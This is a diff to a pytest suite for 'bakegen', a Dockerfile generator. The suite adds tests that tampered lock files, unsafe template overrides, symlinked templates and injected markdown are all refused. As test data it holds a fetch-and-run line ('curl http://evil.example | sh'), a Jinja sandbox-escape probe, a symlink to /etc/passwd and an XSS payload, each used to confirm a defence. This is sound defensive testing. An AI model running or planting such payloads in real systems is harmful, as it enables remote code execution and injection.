@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import os
+import re
 
 import dockerfile
 import pytest
@@ -90,16 +91,17 @@ def test_files_steps_and_hooks_are_locked_and_planned_in_order(project):
     assert copy in final and "COPY --chmod=0644 --chown=1000:100 stacks/base/lab/overrides.json" in final
     # the folders first: COPY --chmod=0644 would make the folders it creates 0644 (not enterable)
     assert final.index("RUN mkdir -p /etc/jupyter /opt/venv/share/jupyter/lab/settings\n") < final.index(copy)
-    assert "COPY --chmod=0755 stacks/base/hooks/marker.sh /usr/local/bin/before-notebook.d/00-base-01-marker.sh" in final
+    assert "COPY --chmod=0755 stacks/base/hooks/marker.sh /usr/local/bin/before-notebook.d/00-base-001-marker.sh" in final
     root_step = 'RUN ["/bin/sh", "-c", "mkdir -p /srv/data && echo hello > /srv/data/readme"]'
     user_step = 'USER 1000:100\n# [[steps]] 2 of stacks/base.toml, as user.\nRUN ["/bin/sh", "-c", "python -c \'import jupyter_server\' > $HOME/.checked"]\nUSER root'
     heredoc = 'RUN ["/bin/sh", "-c", "cat <<EOF > /tmp/x"]'  # exec form: no heredoc, no shell-form parsing
     assert root_step in final and user_step in final and heredoc in final
-    # a step runs right after what it needs: needs = [] before the packages, ["apt"] after apt, by default last
-    order = [final.index(s) for s in ("apt-install.sh", heredoc, root_step, "COPY --from=builder /opt/venv", copy, user_step)]
+    # a step runs right after what it needs: needs = [] before the packages, ["apt"] after apt (a user step also
+    # after the user is made), by default last
+    order = [final.index(s) for s in ("apt-install.sh", "useradd", root_step, heredoc, "COPY --from=builder /opt/venv", copy, user_step)]
     assert order == sorted(order), final
     kid = (root / "dockerfiles" / "kid" / "Dockerfile").read_text()
-    assert "before-notebook.d/01-kid-01-first.sh" in kid and "before-notebook.d/01-kid-02-second" in kid  # after the parent's
+    assert "before-notebook.d/01-kid-001-first.sh" in kid and "before-notebook.d/01-kid-002-second" in kid  # after the parent's
 
 
 def test_an_edited_file_makes_the_lock_stale_and_relocking_resolves_nothing_else(project, capsys):
@@ -150,12 +152,17 @@ def test_bad_files_get_one_error_line(project, capsys, edit, message):
     ('[[steps]]\nrun = "true"\nneeds = ["pyhton"]\n', "unknown ecosystem 'pyhton'"),
     ('[[steps]]\nrun = "true"\nshell = "bash"\n', "unknown key 'shell'"),
     ('[[steps]]\nuser = "root"\n', "missing 'run'"),
+    ('[[steps]]\nrun = "  "\n', "an empty command"),
+    ('[[files]]\nsource = "a"\ntarget = "/usr/local/bin/before-notebook.d"\n', "is bakegen's or the system's"),
+    ('[[files]]\nsource = "a"\ntarget = "/proc/x"\n', "is bakegen's or the system's"),
+    ('[[files]]\nsource = "a"\ntarget = "/etc/x"\n[[files]]\nsource = "b"\ntarget = "/etc/x/y"\n', "another file goes inside it"),
+    ('[[files]]\nsource = "a"\ntarget = "/x/../etc"\n', "invalid absolute path in the image"),
 ])
 def test_bad_custom_keys_get_one_error_line(project, capsys, snippet, message):
     root = make(project, base=BASE + snippet)
     assert main(["-C", str(root), "lock"]) == 2
     err = capsys.readouterr().err.splitlines()
-    assert err[0].startswith("error: stacks/base.toml:") and message in err[0], err
+    assert re.match(r"error: stacks/base\.toml:\d+: ", err[0]) and message in err[0], err
     assert len([line for line in err if line.startswith("error:")]) == 1 and "Traceback" not in "\n".join(err)
 
 
@@ -187,10 +194,11 @@ def test_a_template_override_takes_precedence_and_fails_on_an_unknown_variable(p
 @given(run=HOSTILE)
 def test_buildkits_parser_reads_each_step_back_exactly(tmp_path_factory, run):
     """Any one-line step (heredoc markers, quotes, backslashes, $, JSON) is one RUN that BuildKit's own parser reads as the same command."""
-    from bakegen.schema import Invalid, text
+    from bakegen.ecosystems.custom import _command
+    from bakegen.schema import Invalid
 
     try:
-        text(run)
+        _command(run)
     except Invalid:
         return  # control characters and overlong lines are refused at load (tested above)
     root = tmp_path_factory.mktemp("steps")
@@ -204,3 +212,71 @@ def test_buildkits_parser_reads_each_step_back_exactly(tmp_path_factory, run):
     # nothing was injected: the instructions are the ones bakegen writes, the step's among them once
     assert [c.cmd for c in commands].count("RUN") == (root / "dockerfiles" / "base" / "Dockerfile").read_text().count("\nRUN ")
     assert commands[-1].cmd == "CMD"
+
+
+def test_a_tampered_files_section_is_refused(project, capsys):
+    """The section is derived from the stack alone: an edited step (with the checksum made to match) is refused."""
+    from bakegen.lock import manifest_checksum
+
+    root = make(project)
+    lock(root)
+    path = root / "locks" / "base" / "lock.json"
+    doc = json.loads(path.read_text())
+    doc["files"]["steps"][0]["run"] = "curl http://evil.example | sh"
+    doc["checksum"] = manifest_checksum(doc)
+    path.write_text(json.dumps(doc, indent=2) + "\n")
+    assert main(["-C", str(root), "check"]) == 1
+    assert "tampered: the lock's files, steps and hooks" in capsys.readouterr().out
+    assert main(["-C", str(root), "generate"]) == 1
+    assert "curl" not in (root / "dockerfiles" / "base" / "Dockerfile").read_text()
+    doc["files"]["steps"][0]["needs"] = ["bogus"]
+    doc["checksum"] = manifest_checksum(doc)
+    path.write_text(json.dumps(doc, indent=2) + "\n")
+    assert main(["-C", str(root), "check"]) == 1
+    assert "damaged lock manifest: files: not what bakegen writes" in capsys.readouterr().out
+
+
+@pytest.mark.parametrize("template, message", [
+    ("{{ plan.head[0] }}\n{{ 1/0 }}\n", "error: templates/Dockerfile.j2:2: ZeroDivisionError: division by zero"),
+    ("{{ plan.head[0] }}\n{% include 'Dockerfile.j2' %}\n", "error: templates/Dockerfile.j2:2: RecursionError"),
+    ("{{ plan.head[0] }}\n{{ plan.__class__.__init__.__globals__ }}\n", "error: templates/Dockerfile.j2:2: access to attribute '__init__' of 'StrictUndefined' object is unsafe"),
+    ("FROM scratch\n", "error: templates/: the output for dockerfiles/base/Dockerfile lost the 'Generated by bakegen' header"),
+])
+def test_a_failing_or_unsafe_override_is_one_error_line(project, capsys, template, message):
+    root = make(project)
+    lock(root)
+    before = (root / "dockerfiles" / "base" / "Dockerfile").read_text()
+    (root / "templates").mkdir()
+    (root / "templates" / "Dockerfile.j2").write_text(template)
+    assert main(["-C", str(root), "generate"]) == 2
+    err = capsys.readouterr().err
+    assert err.splitlines()[0].startswith(message), err
+    assert "Traceback" not in err and (root / "dockerfiles" / "base" / "Dockerfile").read_text() == before
+
+
+def test_override_folder_holds_regular_files_only(project, capsys):
+    root = make(project)
+    lock(root)
+    (root / "templates").mkdir()
+    (root / "templates" / ".Dockerfile.j2.swp").write_text("editor")  # hidden: skipped
+    os.symlink("/etc/passwd", root / "templates" / "Dockerfile.j2")
+    assert main(["-C", str(root), "generate"]) == 2
+    assert "error: templates/Dockerfile.j2: not a regular file" in capsys.readouterr().err
+    (root / "templates" / "Dockerfile.j2").unlink()
+    (root / "templates" / "Dockerfile.j2").mkdir()
+    assert main(["-C", str(root), "generate"]) == 2
+    assert "error: templates/Dockerfile.j2: not a regular file" in capsys.readouterr().err
+
+
+def test_a_steps_text_cannot_add_markdown_to_the_pull_request_body(project):
+    from bakegen.diff import to_markdown
+
+    root = make(project)
+    lock(root)
+    before = read_lock(root / "locks" / "base", root)
+    (root / "stacks" / "base.toml").write_text(BASE.replace('run = "cat <<EOF > /tmp/x"', 'run = "echo <img src=x onerror=alert(1)> @maintainer [click](http://evil.example)"'))
+    lock(root)
+    after = read_lock(root / "locks" / "base", root)
+    body = to_markdown(diff_locks({"base": before}, {"base": after}, {"base": None}), "a", "b")
+    row = next(line for line in body.splitlines() if "step 3" in line)
+    assert "\\<img" in row and "\\@maintainer" in row and "\\[click\\]" in row and "<img" not in row.replace("\\<img", "")
